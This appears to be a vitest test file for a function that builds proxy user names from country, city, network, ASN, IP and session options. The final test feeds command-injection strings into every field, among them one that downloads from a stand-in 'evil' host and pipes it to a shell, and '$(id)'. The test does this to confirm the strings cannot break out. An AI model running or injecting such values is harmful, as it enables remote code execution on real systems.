import { expect, test } from 'vitest'
import { acceptedUserNames } from './contract/user-name-cases.ts'
import { exitProblems, proxyUserName, type Exit } from './exit.ts'

test('the user name lists what was chosen in the documented order', () => {
  expect(proxyUserName('USERNAME', { session: 'cart7', country: 'JP', lifetime: '30' })).toBe(
    'USERNAME-country-jp-session-cart7-lifetime-30',
  )
})

test('a lifetime without a session is left out', () => {
  expect(proxyUserName('U', { lifetime: '5' })).toBe('U')
})

test.each(acceptedUserNames.filter(({ parts }) => Object.keys(parts).length > 0))(
  'W82: the parts of $text can all be chosen, and are written as the grammar has them',
  ({ text, parts }) => {
    const written = proxyUserName('USERNAME', parts as Exit)
    // The order of the contract, whatever the order of the case.
    expect(written.split('-').sort()).toEqual(text.split('-').sort())
    expect(exitProblems(parts as Exit).size).toBe(0)
  },
)

test.each([
  ['a city in another script', { country: 'jp', city: '東京' }, 'U-country-jp'],
  ['a city with a letter that has no plain form', { country: 'pl', city: 'Łódź' }, 'U-country-pl'],
  ['a city with an apostrophe and a hyphen', { country: 'ca', city: "Val-d'Or" }, 'U-country-ca-city-valdor'],
  ['a city of punctuation only', { country: 'ca', city: '--' }, 'U-country-ca'],
  ['a city without its country', { city: 'osaka', session: 's' }, 'U-session-s'],
  ['a state with its country, twice', { country: 'US', state: 'US-CA' }, 'U-country-us-state-ca'],
  ['a state without its country', { state: 'ca' }, 'U'],
  ['a network that there is', { network: 'Mobile' }, 'U-network-mobile'],
  ['a network that there is not', { network: 'home' }, 'U'],
  ['a rented address with its network', { network: 'isp', ip: '203.0.113.7' }, 'U-network-isp-ip-203-0-113-7'],
  ['a rented address without a network that has some', { ip: '203.0.113.7' }, 'U'],
  ['an address that is none', { network: 'isp', ip: '203.0.113.999' }, 'U-network-isp'],
  ['an ASN that is no number', { asn: 'abc' }, 'U'],
  ['an ASN with its prefix', { asn: 'AS64500' }, 'U-asn-64500'],
  ['an ASN that is too large', { asn: '4294967296' }, 'U'],
  ['a session of punctuation only, with its lifetime', { session: '--', lifetime: '5' }, 'U'],
  ['a session that is too long', { session: 'a'.repeat(40) }, `U-session-${'a'.repeat(32)}`],
  ['a lifetime with a fraction', { session: 's', lifetime: '1.5' }, 'U-session-s'],
  ['a lifetime below the bound', { session: 's', lifetime: '0' }, 'U-session-s'],
  ['a lifetime above the bound', { session: 's', lifetime: '99999' }, 'U-session-s'],
  ['a lifetime in words', { session: 's', lifetime: 'long' }, 'U-session-s'],
  ['a lifetime of blanks', { session: 's', lifetime: ' ' }, 'U-session-s'],
  ['an infinite lifetime', { session: 's', lifetime: 'Infinity' }, 'U-session-s'],
  ['a country that is no code', { country: 'Japan' }, 'U'],
])('the user name handles %s', (_name, exit, name) => {
  expect(proxyUserName('U', exit)).toBe(name)
})

test('the name of a city loses its accents, not its letters', () => {
  expect(proxyUserName('u', { country: 'BR', city: 'São Paulo' })).toBe('u-country-br-city-saopaulo')
})

test('a part that is left out has its problem, and so has one that needed it', () => {
  expect([...exitProblems({ city: 'osaka', asn: 'abc', ip: '203.0.113.7', session: '--', lifetime: '5' })]).toEqual([
    ['city', 'missing-part'],
    ['asn', 'invalid-value'],
    ['ip', 'wrong-network'],
    ['session', 'invalid-value'],
    ['lifetime', 'missing-part'],
  ])
})

test.each(['us"; curl evil|sh; echo "', '$(id)', '`id`', "us'", 'us\nid', 'a\\b'])('%j cannot break out of the user name', (typed) => {
  const exit = { network: typed, country: typed, state: typed, city: typed, asn: typed, ip: typed, session: typed, lifetime: typed }
  for (const parts of [exit, { ...exit, country: 'us', network: 'isp' }])
    expect(proxyUserName('U', parts)).toMatch(/^U(-[a-z]+-[A-Za-z0-9]+)*$/)
})
